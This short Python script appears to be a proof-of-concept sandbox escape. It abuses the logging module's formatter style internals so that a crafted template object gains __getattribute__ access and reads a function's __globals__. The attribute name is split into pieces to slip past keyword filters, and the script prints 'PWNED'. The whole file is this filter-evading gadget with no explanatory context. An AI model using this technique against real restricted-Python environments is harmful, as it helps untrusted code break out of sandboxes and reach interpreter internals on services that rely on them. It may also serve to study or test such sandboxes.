import logging


class Mine(logging.Formatter):
    pass


class Template:
    def __mod__(self, facts):
        raw = facts["__getattribute__"]
        print("PWNED", raw(print_globals, "__glo" + "bals__"))
        return ""


def print_globals():
    pass


style = Mine("%(message)s")._style


class Style(type(style)):
    def __init__(self):
        self._fmt = Template()
        self._defaults = None


Style().format(object)
